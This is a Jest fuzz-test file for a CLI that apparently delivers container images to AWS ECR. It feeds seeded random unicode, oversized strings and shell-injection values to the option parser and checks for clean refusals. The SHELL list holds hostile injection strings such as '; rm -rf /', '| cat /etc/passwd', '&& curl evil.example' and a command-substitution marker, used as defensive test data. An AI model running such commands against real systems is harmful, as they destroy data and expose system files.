/**
 * Malformed option values, fuzzed: random unicode, huge strings, newlines and control
 * characters, shell metacharacters, valid values with something appended. A seeded PRNG keeps
 * every case reproducible (a failure names the seed and the case). Hundreds of cases go through
 * parseOptions in-process; a sample of the ones that must be refused (two per option) goes through dist/index.js,
 * as flags and as ECR_DELIVER_* env: exit 2, one line, no stack trace, no AWS call.
 */
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { InputError } from '../../src/core/errors';
import { envName } from '../../src/core/options/names';
import { parseOptions } from '../../src/core/options/parse';
import { OPTIONS, type OptionSpec } from '../../src/core/options/table';
import { AwsEmulator } from '../fixtures/emulator';
import { BUNDLE, NODE24, runProcess } from '../fixtures/github-runner';
import type { Registry } from '../fixtures/services';

const SEED = 0x5eed_2026;
const CASES = 700;
const DIST_PER_OPTION = 2;

/** mulberry32: small, fast, and the same sequence on every machine. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SHELL = [
  '$(touch /tmp/fuzz-pwned)',
  '`id`',
  '; rm -rf /',
  '| cat /etc/passwd',
  '&& curl evil.example',
  '> /etc/x',
  '\'"',
  '\\',
  '${IFS}',
  '$HOME',
  '%0A::error::x',
];
// Unicode that breaks naive code: controls, C1, bidi override, zero-width, line separators, astral, lone surrogates.
const POOLS = [
  () => String.fromCharCode(0x20 + Math.floor(rand() * 95)),
  () => String.fromCharCode(Math.floor(rand() * 0x20)),
  () => String.fromCharCode(0x7f + Math.floor(rand() * 0x21)),
  () => ['\u202e', '\u200b', '\u2028', '\u2029', '\ufeff', '\u00a0', '\u0085'][Math.floor(rand() * 7)],
  () => String.fromCodePoint(0x1f300 + Math.floor(rand() * 0x300)),
  () => String.fromCharCode(0x4e00 + Math.floor(rand() * 0x5000)),
  () => String.fromCharCode(0xd800 + Math.floor(rand() * 0x800)),
];

let rand = prng(SEED);
const pick = <T>(items: readonly T[]): T => items[Math.floor(rand() * items.length)];
const unicode = (n: number) => Array.from({ length: n }, () => pick(POOLS)()).join('');
/** A value that looks right for the option, so appended junk is what has to be caught. */
const plausible = (spec: OptionSpec): string =>
  spec.default ??
  (
    {
      repository: 'team/api',
      'aws-region': 'eu-west-1',
      'role-to-assume': 'arn:aws:iam::123456789012:role/ci',
      'registry-id': '123456789012',
      'commit-sha': 'a'.repeat(40),
      tags: 'latest',
      'build-args': 'A=1',
      platform: 'linux/amd64',
      image: 'app:1',
      target: 'prod',
      'kms-key': 'alias/ecr',
      'role-session-name': 'ci-run',
    } as Record<string, string>
  )[spec.name] ??
  'x';

const GENERATORS: Array<[string, (spec: OptionSpec) => string]> = [
  ['unicode', () => unicode(1 + Math.floor(rand() * 40))],
  ['huge', () => unicode(8).repeat(600 + Math.floor(rand() * 9000))],
  ['newline', (spec) => `${plausible(spec)}${pick(['\n', '\r\n', '\r'])}${pick(SHELL)}`],
  ['control', (spec) => `${plausible(spec)}${pick(['\0', '\x1b[31m', '\x07', '\x08', '\t', '\x7f'])}x`],
  ['shell', () => pick(SHELL)],
  ['appended', (spec) => `${plausible(spec)}${pick(SHELL)}`],
  ['spaces', (spec) => `${plausible(spec)} ${plausible(spec)}`],
];

const ASCII_PRINTABLE = /^[\x21-\x7e]*$/;
const LIST = new Set<string>(OPTIONS.filter((o) => o.type === 'list').map((o) => o.name));
const PATHS = new Set<string>(OPTIONS.filter((o) => o.type === 'path').map((o) => o.name));

/**
 * Conservative oracle: true only when the value is certainly invalid by the documented rules,
 * without re-implementing them. Free-form options (audience, paths, build-arg values) may carry
 * metacharacters; they are data and reach nothing that interprets them.
 */
const SECRET_LISTS = new Set(['secrets', 'secret-files', 'ssh']);

function mustRefuse(name: string, value: string): boolean {
  const v = LIST.has(name) ? value : value.trim();
  if (v.trim() === '') return false; // "not given": the default applies
  if (/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/.test(v)) return true;
  if (v.length > 65536) return true;
  if (LIST.has(name)) {
    const entries = v
      .split(name === 'tags' ? /[\n,]/ : /\n/)
      .map((e) => e.replace(/\r$/, '').trim())
      .filter(Boolean);
    if (name === 'tags') return entries.some((e) => !/^[A-Za-z0-9_.-]+$/.test(e));
    // Build secrets: `id=…` with docker's secret-id charset; ssh also takes `default`.
    if (SECRET_LISTS.has(name)) return entries.some((e) => !(name === 'ssh' && e === 'default') && !/^[A-Za-z0-9_.-]{1,128}=/.test(e));
    return entries.some((e) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(e));
  }
  if (/[\t\n\r]/.test(v) || v.length > 4096) return true;
  if (PATHS.has(name)) return !existsSync(v);
  if (name === 'audience') return !ASCII_PRINTABLE.test(v) || v.length > 256;
  return !ASCII_PRINTABLE.test(v) || /[$`;|&()<>"'\\ ]/.test(v);
}

interface Case {
  index: number;
  name: string;
  kind: string;
  value: string;
}

function cases(): Case[] {
  rand = prng(SEED);
  return Array.from({ length: CASES }, (_, index) => {
    const spec = OPTIONS[index % OPTIONS.length];
    const [kind, make] = pick(GENERATORS);
    return { index, name: spec.name, kind, value: make(spec) };
  });
}

const show = (c: Case) =>
  `seed ${SEED.toString(16)} case ${c.index} (${c.kind}) ${c.name}=${JSON.stringify(c.value.slice(0, 60))}${c.value.length > 60 ? `…(${c.value.length})` : ''}`;
/** One line in any log: no line breaks of any kind, no control or invisible characters. */
const ONE_LINE = /^[^\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u200b-\u200f\ufeff]*$/;

let context: string;
let emulator: AwsEmulator;

beforeAll(async () => {
  context = mkdtempSync(join(tmpdir(), 'fuzz-ctx-'));
  writeFileSync(join(context, 'Dockerfile'), 'FROM scratch\n');
  // Only the STS/ECR endpoint is needed, to prove that no call reaches it; no registry behind it.
  emulator = new AwsEmulator({
    registry: { url: 'http://127.0.0.1:9', host: '127.0.0.1:9', user: 'AWS', password: 'unused', storageDir: context } as Registry,
  });
  await emulator.start();
});

afterAll(async () => {
  await emulator?.stop();
  rmSync(context, { recursive: true, force: true });
});

describe('fuzzed option values', () => {
  it(`${CASES} cases in-process: a value is parsed or refused with one InputError line; certainly-bad values are always refused`, () => {
    const problems: string[] = [];
    let refused = 0;
    for (const c of cases()) {
      const base: Record<string, string> = { repository: 'team/api', context };
      try {
        parseOptions((name) => (name === c.name ? c.value : base[name]));
        if (mustRefuse(c.name, c.value)) problems.push(`accepted: ${show(c)}`);
      } catch (err) {
        refused++;
        if (!(err instanceof InputError)) {
          problems.push(`${(err as Error).name} instead of InputError: ${show(c)}`);
          continue;
        }
        const message = err.message;
        if (err.exitCode !== 2) problems.push(`exit code ${err.exitCode}: ${show(c)}`);
        if (!ONE_LINE.test(message)) problems.push(`not one clean line: ${JSON.stringify(message.slice(0, 120))} for ${show(c)}`);
        if (!message.startsWith(`${c.name}: `) && !message.startsWith('dockerfile: '))
          problems.push(`names another option: ${JSON.stringify(message.slice(0, 80))} for ${show(c)}`);
        if (message.length > 600) problems.push(`${message.length} characters long: ${show(c)}`);
      }
    }
    expect(problems).toEqual([]);
    // The generators do produce mostly bad values.
    expect(refused).toBeGreaterThan(CASES * 0.8);
  });

  it(`${DIST_PER_OPTION} certainly-bad values per option through dist/index.js (flags and env): exit 2, one line, no stack trace, no AWS call`, async () => {
    // argv and env cannot carry NUL, and one argument is at most 128 KiB.
    const sample = cases().filter((c) => mustRefuse(c.name, c.value) && !c.value.includes('\0') && Buffer.byteLength(c.value) < 100_000);
    const chosen = OPTIONS.flatMap((o) => sample.filter((c) => c.name === o.name).slice(0, DIST_PER_OPTION));
    const problems: string[] = [];
    const runOne = async (c: Case, i: number) => {
      const byFlag = i % 2 === 0;
      const base: Record<string, string> = { repository: 'team/api', context, 'commit-sha': 'b'.repeat(40) };
      const args = byFlag
        ? [
            `--${c.name}=${c.value}`,
            ...Object.entries(base)
              .filter(([k]) => k !== c.name)
              .map(([k, v]) => `--${k}=${v}`),
          ]
        : [];
      const env: NodeJS.ProcessEnv = {
        PATH: process.env.PATH,
        HOME: context,
        ...emulator.clientEnv(),
        AWS_ACCESS_KEY_ID: 'AKIAFUZZEXAMPLE00001',
        AWS_SECRET_ACCESS_KEY: 'fuzz',
      };
      if (!byFlag) for (const [k, v] of Object.entries({ ...base, [c.name]: c.value })) env[envName(k)] = v;
      const run = await runProcess(NODE24, [BUNDLE, ...args], env);
      const lines = run.stderr.split('\n').filter(Boolean);
      const how = `${byFlag ? 'flag' : 'env'} ${show(c)}`;
      if (run.code !== 2) problems.push(`exit ${run.code}: ${how}: ${run.stderr.slice(0, 200)}`);
      if (lines.length !== 1 || !lines[0].startsWith('ecr-deliver: ') || !ONE_LINE.test(lines[0]))
        problems.push(`not one clean line (${JSON.stringify(run.stderr.slice(0, 200))}): ${how}`);
      if (/\n\s+at |node:internal|Error: /.test(run.stderr)) problems.push(`stack trace: ${how}`);
      if (run.stdout !== '') problems.push(`stdout: ${how}`);
    };
    for (let i = 0; i < chosen.length; i += 6) await Promise.all(chosen.slice(i, i + 6).map((c, j) => runOne(c, i + j)));
    expect(problems).toEqual([]);
    expect(emulator.calls).toEqual([]);
    // Every option took part.
    expect(new Set(chosen.map((c) => c.name)).size).toBe(OPTIONS.length);
  });

  it('the marker that shell metacharacters would create was never created', () => {
    expect(existsSync('/tmp/fuzz-pwned')).toBe(false);
  });
});
